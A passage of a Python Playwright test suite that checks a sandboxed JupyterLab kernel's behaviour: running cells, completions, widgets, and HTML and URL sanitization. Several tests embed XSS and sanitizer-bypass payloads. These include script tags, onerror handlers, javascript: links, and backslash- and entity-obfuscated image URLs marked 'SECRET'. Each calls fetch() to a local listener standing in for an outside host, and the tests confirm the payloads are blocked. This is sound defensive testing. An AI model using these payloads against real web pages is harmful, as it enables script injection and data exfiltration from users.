"""JupyterLab in a real browser (Debian's Chromium, driven by Playwright) runs cells on the sandbox kernel."""

from __future__ import annotations

import base64
import contextlib
import json
import os
import re
import secrets
import shutil
import socket
import subprocess
import sys
import time
import urllib.request
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import BrowserContext, Locator, Page, expect, sync_playwright

from conftest import Listener
from sandbox_kernel.jupyter.url_reach import PAGES
from test_notebooks import SETTINGS
from url_payloads import CHROMIUM_DIFFERS, ENTITY_CASES, URL_CASES, judge_says, verdict_from_parses

SKILLS_SETTINGS = SETTINGS["skills.ipynb"]

REPO = Path(__file__).resolve().parent.parent
ARTIFACTS = REPO / "tests" / "artifacts"
JUPYTER = str(Path(sys.executable).parent / "jupyter")
CHROMIUM = "/usr/bin/chromium"
CHROMIUM_ARGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
KERNEL = "Python 3 (Pyodide sandbox)"
LAB_START = 180  # seconds for `jupyter lab` to answer /api/status
UI_MS = 60_000  # JupyterLab's first page load (webpack bundles)
KERNEL_MS = 120_000  # a new sandbox kernel becomes idle
CELL_MS = 60_000  # a cell's output appears

pytestmark = [
    pytest.mark.slow,
    pytest.mark.timeout(600),
    pytest.mark.skipif(not os.access(CHROMIUM, os.X_OK), reason=f"Chromium not found at {CHROMIUM}"),
]


@dataclass
class Lab:
    url: str
    token: str
    root: Path
    log: Path
    config: Path  # JUPYTER_CONFIG_DIR of the server and its kernels

    def api(self, method: str, path: str) -> Any:
        request = urllib.request.Request(
            self.url + path, method=method, headers={"Authorization": f"token {self.token}"}
        )
        with urllib.request.urlopen(request, timeout=10) as response:
            body = response.read()
        return json.loads(body) if body else None

    def page_url(self, path: str = "lab") -> str:
        return f"{self.url}/{path}{'&' if '?' in path else '?'}token={self.token}"


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


@pytest.fixture(scope="module")
def lab(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Lab]:
    """`jupyter lab` from this venv, on a free port, serving a temporary folder that holds skills.ipynb."""
    with served_lab(tmp_path_factory.mktemp("jupyterlab")) as lab:
        yield lab


@contextlib.contextmanager
def served_lab(tmp: Path, env_extra: dict[str, str] | None = None) -> Iterator[Lab]:
    """`jupyter lab` in `tmp` (its settings, config and root folder there); `env_extra` adds to its environment."""
    root = tmp / "root"
    root.mkdir()
    shutil.copy(REPO / "notebooks" / "skills.ipynb", root)
    # Fresh settings and workspaces; no "get Jupyter news?" toast and no request for news.
    notification = tmp / "settings" / "@jupyterlab" / "apputils-extension" / "notification.jupyterlab-settings"
    notification.parent.mkdir(parents=True)
    notification.write_text(json.dumps({"fetchNews": "false", "checkForUpdates": False}))
    # Widget state saved with the notebook (JupyterLab's Settings > Save Widget State Automatically).
    widgets = tmp / "settings" / "@jupyter-widgets" / "jupyterlab-manager" / "plugin.jupyterlab-settings"
    widgets.parent.mkdir(parents=True)
    widgets.write_text(json.dumps({"saveState": True}))
    docmanager = tmp / "settings" / "@jupyterlab" / "docmanager-extension" / "plugin.jupyterlab-settings"
    docmanager.parent.mkdir(parents=True)
    docmanager.write_text(json.dumps({"renameUntitledFileOnSave": False}))  # no dialog on the first save
    # The settings skills.ipynb asks its reader for (its kernels inherit the server's environment).
    config = tmp / "config"
    config.mkdir(exist_ok=True)  # (it may hold server config already)
    (config / "sandbox_kernel_config.json").write_text(json.dumps(SKILLS_SETTINGS))
    env = {
        **os.environ,
        "JUPYTERLAB_SETTINGS_DIR": str(tmp / "settings"),
        "JUPYTERLAB_WORKSPACES_DIR": str(tmp / "workspaces"),
        "JUPYTER_CONFIG_DIR": str(config),
        **(env_extra or {}),
    }
    port, token = free_port(), secrets.token_hex(16)
    lab = Lab(f"http://127.0.0.1:{port}", token, root, tmp / "lab.log", config)
    argv = [JUPYTER, "lab", "--no-browser", "--ip=127.0.0.1", f"--port={port}", "--ServerApp.port_retries=0"]
    argv += [f"--IdentityProvider.token={token}", f"--ServerApp.root_dir={root}", "--allow-root"]
    with lab.log.open("w") as log:
        proc = subprocess.Popen(argv, env=env, stdin=subprocess.DEVNULL, stdout=log, stderr=subprocess.STDOUT)
    try:
        deadline = time.monotonic() + LAB_START
        while True:
            assert proc.poll() is None, f"jupyter lab exited with {proc.returncode}:\n{lab.log.read_text()}"
            assert time.monotonic() < deadline, f"jupyter lab did not answer in {LAB_START} s:\n{lab.log.read_text()}"
            try:
                lab.api("GET", "/api/status")
                break
            except OSError:
                time.sleep(0.5)
        yield lab
    finally:
        try:
            lab.api("POST", "/api/shutdown")  # shuts its kernels down, then stops the server
            proc.wait(timeout=60)
        except (OSError, subprocess.TimeoutExpired):
            proc.kill()
            proc.wait(timeout=10)


@contextlib.contextmanager
def chromium(profile: Path, init_script: str | None = None) -> Iterator[BrowserContext]:
    """Debian's headless Chromium with a profile of its own (and a script run in every page first, if given)."""
    with sync_playwright() as playwright:
        context = playwright.chromium.launch_persistent_context(
            profile,
            executable_path=CHROMIUM,
            headless=True,
            args=CHROMIUM_ARGS,
            viewport={"width": 1400, "height": 900},
        )
        context.set_default_timeout(30_000)
        if init_script:
            context.add_init_script(init_script)
        yield context
        context.close()


@pytest.fixture(scope="module")
def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[BrowserContext]:
    with chromium(tmp_path_factory.mktemp("chromium-profile")) as context:
        yield context


@pytest.fixture
def page(browser: BrowserContext, request: pytest.FixtureRequest) -> Iterator[Page]:
    """A new tab; if the test fails, a screenshot of it goes to tests/artifacts/<test>-failed.png."""
    ARTIFACTS.mkdir(exist_ok=True)
    failed_before = request.session.testsfailed
    page = browser.new_page()
    yield page
    if request.session.testsfailed > failed_before:
        page.screenshot(path=ARTIFACTS / f"{request.node.name}-failed.png")
    page.close()


def kernel_status(page: Page) -> Locator:
    return page.locator(".jp-NotebookPanel-toolbar .jp-Notebook-ExecutionIndicator")


def wait_idle(page: Page, timeout: float = KERNEL_MS) -> None:
    expect(page.locator(".jp-StatusBar-Widget")).to_contain_text(f"{KERNEL} | Idle", timeout=timeout)
    expect(kernel_status(page)).to_have_attribute("data-status", "idle", timeout=timeout)


def run_cell(page: Page, code: str) -> Locator:
    """Type `code` into the notebook's last cell and press Shift+Enter; the cell that ran."""
    cells = page.locator(".jp-Notebook .jp-Cell")
    cell = cells.nth(cells.count() - 1)
    cell.locator(".cm-content").click()
    page.keyboard.type(code)
    page.keyboard.press("Shift+Enter")
    return cell


def test_new_notebook_runs_renders_and_interrupts(lab: Lab, page: Page) -> None:
    page.goto(lab.page_url())
    page.locator(f'.jp-LauncherCard[data-category="Notebook"][title="{KERNEL}"]').click(timeout=UI_MS)
    expect(page.locator(".jp-NotebookPanel-toolbar .jp-Toolbar-kernelName")).to_have_text(KERNEL, timeout=UI_MS)
    wait_idle(page)

    cell = run_cell(
        page,
        "print('hello from the sandbox'); from IPython.display import HTML, display; "
        "display(HTML('<b class=\"sbx\">bold html</b>'))",
    )
    expect(cell.locator(".jp-OutputArea-output").first).to_have_text("hello from the sandbox", timeout=CELL_MS)
    expect(cell.locator(".jp-RenderedHTML b.sbx")).to_have_text("bold html")

    cell = run_cell(page, "while True: pass")
    expect(kernel_status(page)).to_have_attribute("data-status", "busy")
    page.wait_for_timeout(2_000)
    page.locator('.jp-NotebookPanel-toolbar jp-button[data-command="notebook:interrupt-kernel"]').click()
    expect(cell.locator(".jp-OutputArea-output")).to_contain_text("KeyboardInterrupt", timeout=CELL_MS)
    wait_idle(page, CELL_MS)

    cell = run_cell(page, "1+1")
    expect(cell.locator(".jp-OutputArea-executeResult .jp-OutputArea-output")).to_have_text("2", timeout=CELL_MS)
    page.screenshot(path=ARTIFACTS / "jupyterlab.png")


def open_new_notebook(lab: Lab, page: Page) -> None:
    page.goto(lab.page_url("lab?reset"))  # a fresh workspace: the launcher, not the last test's notebook
    page.locator(f'.jp-LauncherCard[data-category="Notebook"][title="{KERNEL}"]').click(timeout=UI_MS)
    expect(page.locator(".jp-NotebookPanel-toolbar .jp-Toolbar-kernelName")).to_have_text(KERNEL, timeout=UI_MS)
    wait_idle(page)


FIRST_TAB_WAIT_MS = 3_000  # the user presses Tab a while after the kernel went idle (JupyterLab is idle too)


def first_tab_completes(page: Page, code: str, expected: str) -> None:
    """`code` typed into the last cell and Tab pressed once: `expected` is offered (or, the only match, inserted)."""
    page.wait_for_timeout(FIRST_TAB_WAIT_MS)
    cells = page.locator(".jp-Notebook .jp-Cell")
    editor = cells.nth(cells.count() - 1).locator(".cm-content")
    editor.click()
    page.keyboard.type(code)
    page.keyboard.press("Tab")
    offered = page.locator(".jp-Completer .jp-Completer-item", has_text=expected)
    inserted = editor.filter(has_text=code + expected[len(code.rsplit(".", 1)[-1].rsplit(" ", 1)[-1]) :])
    expect(offered.or_(inserted).first).to_be_visible(timeout=5_000)
    page.keyboard.press("Escape")


# ipykernel, the control, imports Jedi anew in each process and parses `os` then: its own first Tab after a restart
# missed JupyterLab's 1 s under CI's load (seen). Its Jedi is primed by a cell first, so that the control shows what it
# is for: a kernel that answers in time passes these steps.
PRIME_JEDI = "import jedi; [jedi.Interpreter(c, [{}]).complete() for c in ('import collections; collections.Ord', 'import os; os.pa')]"


def prime_control(page: Page, kernel_title: str) -> None:
    """For ipykernel only: PRIME_JEDI run in the last cell, done (the kernel's first count, also after a restart)."""
    if kernel_title != KERNEL:
        cells = page.locator(".jp-Notebook .jp-Cell")
        prompt = cells.nth(cells.count() - 1).locator(".jp-InputPrompt")
        run_cell(page, PRIME_JEDI)
        expect(prompt).to_contain_text("[1]", timeout=CELL_MS)


@pytest.mark.parametrize("kernel_title", [KERNEL, "Python 3 (ipykernel)"])
def test_the_first_tab_completes_in_a_new_and_a_restarted_kernel(lab: Lab, page: Page, kernel_title: str) -> None:
    """JupyterLab drops a completion reply slower than its provider timeout (1 s): the first Tab in a new sandbox
    kernel and the first after Kernel > Restart must beat it, for a module's attributes as for names (ipykernel, its
    Jedi primed: the control). Before: the first `collections.Ord` in a new sandbox kernel completed in 0 of 3
    trials, and `os.pa` after a restart in none."""
    open_notebook(page, lab, kernel_title)
    prime_control(page, kernel_title)
    first_tab_completes(page, "import collections; collections.Ord", "OrderedDict")
    page.keyboard.press("Escape")
    page.locator(".jp-Notebook .jp-Cell").last.locator(".cm-content").press("Control+a")
    page.keyboard.press("Delete")
    page.keyboard.press("Escape")
    page.keyboard.press("0")  # Kernel > Restart (command mode: 0 0), then its dialog
    page.keyboard.press("0")
    page.get_by_role("button", name="Confirm Kernel Restart").click(timeout=UI_MS)  # status: restarting
    expect(kernel_status(page)).to_have_attribute("data-status", "idle", timeout=KERNEL_MS)
    prime_control(page, kernel_title)
    first_tab_completes(page, "import os; os.pa", "path")


def test_a_hostile_inspect_reply_shows_cleaned_html_in_the_tooltip_and_runs_no_script(lab: Lab, page: Page) -> None:
    """The guest replaces the glue's inspect handler (it shares the interpreter): JupyterLab's tooltip renders the
    reply's text/html, so it must be the sanitizer's. JupyterLab's own sanitizer stops the script but not an image
    from another host, which the kernel's drops: the listener is what fails if the reply is not cleaned (checked by
    hand with the cleaning taken out). The bold text rendered shows that HTML did reach the tooltip."""
    listener = Listener()
    try:
        open_new_notebook(lab, page)
        html = (
            f'<b class="sbx-i">html doc</b><img src="http://127.0.0.1:{listener.port}/inspect-image">'
            '<img src=x onerror="document.body.dataset.pwned = 1"><script>document.body.dataset.pwned = 2</script>'
        )
        cell = run_cell(
            page,
            "import sys; sys.modules['sandbox_guest.api']._HANDLERS['inspect'] = lambda req: {'status': 'ok', "
            f"'found': True, 'metadata': {{}}, 'data': {{'text/plain': 'plain doc', 'text/html': {html!r}}}}}",
        )
        expect(cell.locator(".jp-InputArea-prompt")).to_contain_text("[1]", timeout=CELL_MS)
        wait_idle(page, CELL_MS)
        cells = page.locator(".jp-Notebook .jp-Cell")
        cells.nth(cells.count() - 1).locator(".cm-content").click()
        page.keyboard.type("len(")
        page.keyboard.press("Shift+Tab")
        tooltip = page.locator(".jp-Tooltip")
        expect(tooltip.locator("b.sbx-i")).to_have_text("html doc", timeout=10_000)
        page.wait_for_timeout(2_000)  # time for an image or an onerror that did get in
        assert page.evaluate("document.body.dataset.pwned") is None, "the tooltip ran the guest's script"
        listener.assert_untouched()
        page.keyboard.press("Escape")
    finally:
        listener.close()


def test_a_bad_setting_is_shown_in_the_notebook(lab: Lab, page: Page) -> None:
    """A typo in the config file: the kernel starts, and the cell shows what is wrong and in which file."""
    config = lab.config / "sandbox_kernel_config.json"
    good = config.read_text()
    config.write_text(json.dumps({"SandboxKernel": {**json.loads(good)["SandboxKernel"], "cell_timout": 5}}))
    try:
        open_new_notebook(lab, page)
        cell = run_cell(page, "1+1")
        output = cell.locator(".jp-OutputArea-output")
        expect(output).to_contain_text("SandboxSettingsError", timeout=CELL_MS)
        expect(output).to_contain_text("SandboxKernel.cell_timout is not a setting of this kernel: did you mean")
        expect(output).to_contain_text(str(config))
        page.screenshot(path=ARTIFACTS / "jupyterlab-bad-setting.png")
    finally:
        config.write_text(good)


def test_skills_notebook_runs_all(lab: Lab, page: Page) -> None:
    """Run > Run All Cells. JupyterLab sends cells tagged raises-exception with stop_on_error=False, so the
    run goes on past their errors; the expected lines come before the first error in any case."""
    code_cells = [c for c in json.loads((lab.root / "skills.ipynb").read_text())["cells"] if c["cell_type"] == "code"]
    page.set_viewport_size({"width": 1400, "height": 2000})  # the whole notebook in one screenshot
    page.goto(lab.page_url("lab/tree/skills.ipynb?reset"))
    expect(page.locator(".jp-NotebookPanel")).to_have_count(1, timeout=UI_MS)
    wait_idle(page)
    page.locator(".lm-MenuBar-item", has_text="Run").click()
    page.locator(".lm-Menu-item", has_text="Run All Cells").first.click()

    notebook = page.locator(".jp-Notebook")
    for text in [
        "Skills: KeyValueSkill, SignerSkill, TimeSkill",
        "Two days after 2024-02-28: 2024-03-01",
        "AttributeError: device has no skill 'WeatherSkill'. Available skills: KeyValueSkill, SignerSkill, TimeSkill",
        "SkillError: KeyValueSkill.delete failed: KeyError: 'no such key'",
    ]:
        expect(notebook).to_contain_text(text, timeout=CELL_MS)
    wait_idle(page, CELL_MS)
    prompts = notebook.locator(".jp-CodeCell .jp-InputArea-prompt")
    expect(prompts).to_have_text([f"[{n}]:" for n in range(1, len(code_cells) + 1)])
    page.screenshot(path=ARTIFACTS / "jupyterlab-skills.png")


def test_a_slider_renders_a_drag_reaches_the_sandbox_and_widget_html_runs_no_script(lab: Lab, page: Page) -> None:
    listener = Listener()
    try:
        open_new_notebook(lab, page)
        hit = f"http://127.0.0.1:{listener.port}/widget"
        cell = run_cell(
            page,
            "import ipywidgets as w\n"
            "s = w.IntSlider(max=100)\n"
            "h = w.HTML('<b class=\"sbx-w\">widget html</b><script>document.body.dataset.pwned = 1</script>'\n"
            f"           '<img src=x onerror=\"fetch(&quot;{hit}&quot;)\">')\n"
            "display(s, h)",
        )
        slider = cell.locator(".widget-slider .noUi-target")
        expect(slider).to_be_visible(timeout=CELL_MS)
        expect(cell.locator("b.sbx-w")).to_have_text("widget html")
        handle = cell.locator(".noUi-handle")
        box, track = handle.bounding_box(), slider.bounding_box()
        assert box is not None and track is not None
        page.mouse.move(box["x"] + box["width"] / 2, box["y"] + box["height"] / 2)
        page.mouse.down()
        page.mouse.move(track["x"] + track["width"] * 0.7, box["y"] + box["height"] / 2, steps=10)
        page.mouse.up()
        expect(cell.locator(".widget-readout")).not_to_have_text("0", timeout=UI_MS)
        shown = cell.locator(".widget-readout").inner_text()
        wait_idle(page, CELL_MS)
        result = run_cell(page, "s.value")
        expect(result.locator(".jp-OutputArea-executeResult .jp-OutputArea-output")).to_have_text(
            shown, timeout=CELL_MS
        )
        assert int(shown) > 30, f"the drag moved the slider only to {shown}"
        page.wait_for_timeout(1_000)  # give a script that did get in the time to call out
        assert page.evaluate("document.body.dataset.pwned") is None, "widget HTML ran a script"
        listener.assert_untouched()
        page.screenshot(path=ARTIFACTS / "jupyterlab-widgets.png")
    finally:
        listener.close()


def notebook_metadata(path: Path) -> dict[str, Any] | None:
    """A saved notebook's metadata; None while the server is still writing it (it writes the file in place)."""
    try:
        return dict(json.loads(path.read_text()).get("metadata", {}))
    except json.JSONDecodeError:
        return None


def saved_sliders(root: Path) -> dict[str, dict[str, Any]]:
    """The IntSlider models saved in the widget state of the notebooks in `root`, by notebook name."""
    found = {}
    for path in root.glob("*.ipynb"):
        if path.name.startswith(".") or (metadata := notebook_metadata(path)) is None:
            continue
        state = metadata.get("widgets", {}).get("application/vnd.jupyter.widget-state+json", {}).get("state", {})
        for model in state.values():
            if model.get("model_name") == "IntSliderModel":
                found[path.name] = model
    return found


def test_widget_state_is_saved_with_the_notebook_and_shown_again_when_it_is_opened(lab: Lab, page: Page) -> None:
    """As under ipykernel, with JupyterLab's "save widget state" on: the file keeps the slider's state and,
    opened again, the slider is drawn from it before any cell runs."""
    before = {path.name for path in lab.root.glob("*.ipynb")}  # names only: a file may be half-written now
    open_new_notebook(lab, page)
    cell = run_cell(page, "import ipywidgets as w\nw.IntSlider(value=37, max=100, description='saved')")
    expect(cell.locator(".widget-readout")).to_have_text("37", timeout=CELL_MS)
    wait_idle(page, CELL_MS)
    page.locator('.jp-NotebookPanel-toolbar jp-button[data-command="docmanager:save"]').click()
    deadline = time.monotonic() + UI_MS / 1000
    while not (saved := {n: m for n, m in saved_sliders(lab.root).items() if n not in before}):
        assert time.monotonic() < deadline, "the notebook was not saved with the slider's state: " + str(
            {p.name: notebook_metadata(p) for p in lab.root.glob("*.ipynb")}
        )
        page.wait_for_timeout(250)
    assert len(saved) == 1, f"more than one notebook was saved with a new slider: {saved}"
    [(name, model)] = saved.items()
    assert (model["model_module"], model["state"]["value"], model["state"]["description"]) == (
        "@jupyter-widgets/controls",
        37,
        "saved",
    )

    page.goto(lab.page_url("lab?reset"))
    page.goto(lab.page_url(f"lab/tree/{name}"))
    reopened = page.locator(".jp-Notebook .jp-Cell").first
    expect(reopened.locator(".widget-slider .widget-readout")).to_have_text("37", timeout=UI_MS)
    expect(reopened.locator(".widget-slider .widget-label")).to_have_text("saved")


# ---- nothing a cell displays acts in the browser ------------------------------------------------------


def active_payloads(port: int) -> str:
    """One cell that tries every way of running script in the page: each would call the listener on `port`."""
    hit = f"http://127.0.0.1:{port}"
    return "\n".join(
        [
            "from IPython.display import HTML, SVG, Javascript, Markdown, display",
            f"display(Javascript(\"document.body.dataset.pwned = 'js'; fetch('{hit}/javascript')\"))",
            f'display(HTML(\'<script>document.body.dataset.pwned = "script"; fetch("{hit}/script")</script>\'))',
            f"display(HTML('<img src=x onerror=\"fetch(&quot;{hit}/onerror&quot;)\">'))",
            f"display(HTML('<svg><script>fetch(&quot;{hit}/inline-svg&quot;)</script></svg>'))",
            f"display(HTML('<iframe srcdoc=\"<script>fetch(&quot;{hit}/iframe&quot;)</script>\"></iframe>'))",
            f"display(HTML('<img src=\"{hit}/remote-image\">'))",
            f"display(HTML('<div style=\"background-image: url({hit}/css)\">css</div>'))",
            f'display(SVG(\'<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(&quot;{hit}/svg&quot;)">'
            f'<script>fetch(&quot;{hit}/svg-script&quot;)</script><circle r="5"/></svg>\'))',
            f"display(Markdown('<img src=x onerror=\"fetch(&quot;{hit}/markdown&quot;)\"> ![i]({hit}/md-image)'))",
            f'display(HTML(\'<a class="sbx-link" href="javascript:fetch(&quot;{hit}/link&quot;)">click me</a>\'))',
            'display(HTML(\'<table class="dataframe" border="1"><thead><tr><th></th><th>price</th></tr></thead>'
            "<tbody><tr><th>apple</th><td>3</td></tr></tbody></table>'))",
        ]
    )


def open_notebook(page: Page, lab: Lab, kernel_title: str) -> None:
    """A new notebook on `kernel_title`, from the launcher of a fresh workspace."""
    page.goto(lab.page_url("lab?reset"))
    page.locator(f'.jp-LauncherCard[data-category="Notebook"][title="{kernel_title}"]').click(timeout=UI_MS)
    expect(page.locator(".jp-NotebookPanel-toolbar .jp-Toolbar-kernelName")).to_have_text(kernel_title, timeout=UI_MS)
    expect(kernel_status(page)).to_have_attribute("data-status", "idle", timeout=KERNEL_MS)


def test_active_content_does_not_run_in_jupyterlab(lab: Lab, page: Page) -> None:
    listener = Listener()
    try:
        open_notebook(page, lab, KERNEL)
        cell = run_cell(page, active_payloads(listener.port))
        expect(cell.locator(".jp-RenderedHTML table.dataframe td")).to_have_text("3", timeout=CELL_MS)
        expect(
            cell.locator(".jp-OutputArea-output").filter(has_text="application/javascript was not sent")
        ).to_have_count(1)
        link = cell.locator("a.sbx-link")
        expect(link).to_have_text("click me")
        link.click()  # its javascript: URL is gone, so a click does nothing
        page.wait_for_timeout(2_000)  # give any script that did get in the time to call out
        assert page.evaluate("document.body.dataset.pwned") is None, "a payload changed the page"
        listener.assert_untouched()
        page.screenshot(path=ARTIFACTS / "jupyterlab-active-content.png")
    finally:
        listener.close()


def test_the_same_payloads_do_run_in_ipykernel(lab: Lab, page: Page) -> None:
    """Proof that the test above would catch a missing sanitiser: ipykernel's output is trusted and acts."""
    listener = Listener()
    try:
        open_notebook(page, lab, "Python 3 (ipykernel)")
        cell = run_cell(page, active_payloads(listener.port))
        expect(cell.locator(".jp-RenderedHTML table.dataframe td")).to_have_text("3", timeout=CELL_MS)
        expect(page.locator("body")).to_have_attribute("data-pwned", re.compile("js|script"), timeout=CELL_MS)
        deadline = time.monotonic() + 10
        while len({hit.split(b" ")[1] for hit in listener.hits if b" " in hit}) < 3 and time.monotonic() < deadline:
            page.wait_for_timeout(200)
        paths = {hit.split(b" ")[1].decode() for hit in listener.hits if b" " in hit}
        assert {"/javascript", "/script", "/remote-image"} <= paths, paths
    finally:
        listener.close()


# ---- no URL in an output reaches another host -----------------------------------------------------------


def url_payloads(port: int) -> list[tuple[str, Any]]:
    """(kind, value) outputs that each try to make the browser fetch from 127.0.0.1:`port`, which stands in
    for another host (allow_net is empty); each names its own path, so a hit says which one got through."""
    far = f"127.0.0.1:{port}"
    svg = (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="20" height="20">'
        f'<image href="/\\{far}/svg-image?d=SECRET" width="9" height="9"/>'
        f'<image xlink:href=" //{far}/svg-xlink-image" x="10" width="9" height="9"/>'
        f'<use href="//{far}/svg-use.svg#a"/></svg>'
    )
    vegalite = {
        "$schema": "https://vega.github.io/schema/vega-lite/v5.json",
        "data": {"url": f"//{far}/vega-data.csv"},
        "mark": "point",
        "encoding": {"x": {"field": "a", "type": "quantitative"}},
    }
    return [
        ("html", f'<img src="/\\{far}/html-backslash?d=SECRET">'),
        ("html", f'<img src=" /\\{far}/html-leading-space">'),
        ("html", f'<img src="&#x2F;&#x5C;{far}/html-entities">'),
        ("html", f'<img src="/&bsol;{far}/html-bsol">'),
        ("html", f'<img src="/&Tab;/{far}/html-tab">'),
        ("html", f'<img src="h&Tab;ttp:/\\{far}/html-scheme-tab">'),
        ("html", f'<img srcset="/\\{far}/html-srcset 1x">'),
        ("html", f'<a class="sbx-far-link" href="/\\{far}/html-link">far link</a>'),
        ("svg", svg),
        ("markdown", f"![md](/\\{far}/md-image)"),
        ("markdown", f'<img src="/\\{far}/md-html-image">'),
        ("markdown", f"![md][r]\n\n[r]: //{far}/md-reference"),
        ("raw", {"application/vnd.vegalite.v5+json": vegalite, "text/plain": "vega chart"}),
        # MathJax typesets math in HTML, Markdown and LaTeX output: \style sets CSS, \href makes a link.
        ("html", f"<p>$\\style{{cursor: url(http://{far}/math-style), auto}}{{z}}$</p>"),
        ("html", f"<p>$\\sty<wbr>le{{cursor: url(http://{far}/math-split-style), auto}}{{z}}$</p>"),
        ("markdown", f"a $\\href{{//{far}/math-href}}{{y}}$ b"),
        ("latex", f"$\\style{{cursor: url(http://{far}/math-latex), auto}}{{w}}$"),
        ("html", '<b class="sbx-far-done">all shown</b>'),
    ]


MATH_PAYLOADS = 4  # math expressions url_payloads shows (each becomes one mjx-container)


def show_cell(payloads: list[tuple[str, Any]]) -> str:
    """One line of Python that displays `payloads` (sent as base64, so nothing in them is typed as code)."""
    blob = base64.b64encode(json.dumps(payloads).encode()).decode()
    return (
        "import base64, json; from IPython.display import HTML, SVG, Latex, Markdown, display; "
        "show = {'html': HTML, 'svg': SVG, 'markdown': Markdown, 'latex': Latex, 'raw': lambda bundle: bundle}; "
        f"[display(show[kind](value), raw=kind == 'raw') for kind, value in json.loads(base64.b64decode('{blob}'))];"
    )


# What in the output area could send the browser elsewhere: URL attributes that resolve off the page, and
# the source each image chose (currentSrc, which covers srcset).
FAR_URLS_JS = r"""
(area) => {
  const far = [];
  const off = (value) => {
    try { const host = new URL(value, document.baseURI).host; return host !== '' && host !== location.host; }
    catch { return false; }
  };
  for (const el of area.querySelectorAll('*')) {
    for (const attr of el.attributes) {
      const name = attr.name.toLowerCase();
      if (['srcset', 'poster', 'background', 'formaction', 'action', 'data'].includes(name)) far.push(name + '=' + attr.value);
      else if (['src', 'href', 'xlink:href', 'cite'].includes(name) && off(attr.value)) far.push(name + '=' + attr.value);
      else if (name === 'style' && /url\(/i.test(attr.value)) far.push(name + '=' + attr.value);
    }
    if (el.tagName === 'IMG' && el.currentSrc && off(el.currentSrc)) far.push('currentSrc=' + el.currentSrc);
  }
  return far;
}
"""


def test_no_output_url_reaches_another_host(lab: Lab, page: Page) -> None:
    """Images, srcset, SVG images, Markdown images and a Vega data URL aimed at a listener that stands in for
    another host: the browser renders the cell and the listener sees no request at all."""
    listener = Listener()
    try:
        open_notebook(page, lab, KERNEL)
        cell = run_cell(page, show_cell(url_payloads(listener.port)))
        area = cell.locator(".jp-Cell-outputArea")
        expect(cell.locator("b.sbx-far-done")).to_have_text("all shown", timeout=CELL_MS)
        expect(area.locator("mjx-container")).to_have_count(MATH_PAYLOADS, timeout=CELL_MS)  # MathJax is done
        # Every image has finished (loaded or failed): a fetch any of them made has reached the listener.
        page.wait_for_function(
            "area => [...area.querySelectorAll('img')].every(img => img.complete)",
            arg=area.element_handle(),
            timeout=CELL_MS,
        )
        listener.assert_untouched()
        # Nothing is left that could fetch later: the Vega spec is not shown, no URL attribute leaves the page.
        expect(area).to_contain_text("application/vnd.vegalite.v5+json was not sent: it names a URL on '127.0.0.1'")
        assert area.evaluate(FAR_URLS_JS) == []
        expect(cell.locator("a.sbx-far-link")).to_have_text("far link")
        assert cell.locator("a.sbx-far-link").get_attribute("href") is None  # not a hyperlink: a click goes nowhere
        page.screenshot(path=ARTIFACTS / "jupyterlab-far-urls.png")
    finally:
        listener.close()


# The payloads that reach the listener when nothing sanitises them (ipykernel): each is live in this browser.
# (math-href is a link inside MathJax's output, clicked in neither test: the other test checks its href.)
# Not here: JupyterLab 4 shows image/svg+xml through <img>, where an SVG loads no images, and its Markdown
# renderer percent-encodes a backslash in a link destination (other frontends do neither: they are sent too).
LIVE_IN_JUPYTERLAB = {
    "/html-backslash",
    "/html-leading-space",
    "/html-entities",
    "/html-bsol",
    "/html-tab",
    "/html-scheme-tab",
    "/html-srcset",
    "/html-link",
    "/md-html-image",
    "/md-reference",
    "/vega-data.csv",
    "/math-style",
    "/math-split-style",
    "/math-latex",
}


def test_the_same_url_payloads_reach_the_listener_from_ipykernel(lab: Lab, page: Page) -> None:
    """Proof that the test above would see a leak: under ipykernel (nothing sanitised) the payloads fetch."""
    listener = Listener()
    try:
        open_notebook(page, lab, "Python 3 (ipykernel)")
        cell = run_cell(page, show_cell(url_payloads(listener.port)))
        expect(cell.locator("b.sbx-far-done")).to_have_text("all shown", timeout=CELL_MS)
        cell.locator("a.sbx-far-link").click()
        deadline = time.monotonic() + 20
        while not LIVE_IN_JUPYTERLAB <= hit_paths(listener) and time.monotonic() < deadline:
            page.wait_for_timeout(200)
        assert LIVE_IN_JUPYTERLAB <= hit_paths(listener), " ".join(sorted(hit_paths(listener)))
    finally:
        listener.close()


def hit_paths(listener: Listener) -> set[str]:
    """The paths (without query) of the HTTP requests the listener saw."""
    lines = [hit.split(b"\r\n", 1)[0].split(b" ") for hit in list(listener.hits)]
    return {line[1].decode().split("?")[0] for line in lines if len(line) == 3}


def test_the_url_judge_agrees_with_chromium(browser: BrowserContext) -> None:
    """Chromium's own URL parser, on the unit tests' table: it leaves the page for the same host as the
    judge says (but where CHROMIUM_DIFFERS says why not), and its HTML parser decodes attribute values as
    nh3 hands them to the judge."""
    page = browser.new_page()
    try:
        parses = page.evaluate(
            "([urls, pages]) => urls.map(u => pages.map(p => {"
            " try { const x = new URL(u, p); return [x.protocol, x.hostname]; } catch { return null; } }))",
            [[case.url for case in URL_CASES], list(PAGES)],
        )
        disagree = {}
        for case, parsed in zip(URL_CASES, parses, strict=True):
            chromium_says = verdict_from_parses([tuple(p) if p else None for p in parsed])
            if chromium_says != judge_says(case.url):
                disagree[case.url] = chromium_says
        assert disagree.keys() == CHROMIUM_DIFFERS.keys(), disagree
        decoded = page.evaluate(
            "raws => raws.map(r => new DOMParser().parseFromString('<img src=\"' + r + '\">', 'text/html')"
            ".querySelector('img').getAttribute('src'))",
            [raw for raw, _ in ENTITY_CASES],
        )
        assert decoded == [value for _, value in ENTITY_CASES]
    finally:
        page.close()


def pool_lines(lab: Lab, kernel_id: str) -> list[str]:
    """What the pooled provisioner said in the server's log of the kernel `kernel_id`."""
    return [line for line in lab.log.read_text().splitlines() if f"Kernel {kernel_id} " in line and "pool" in line]


def test_with_the_pool_new_notebooks_and_restarts_get_fresh_kernels_that_waited(tmp_path: Path, page: Page) -> None:
    """The kernelspec's pooled provisioner in a real server (on by default; turned off for the other tests): a
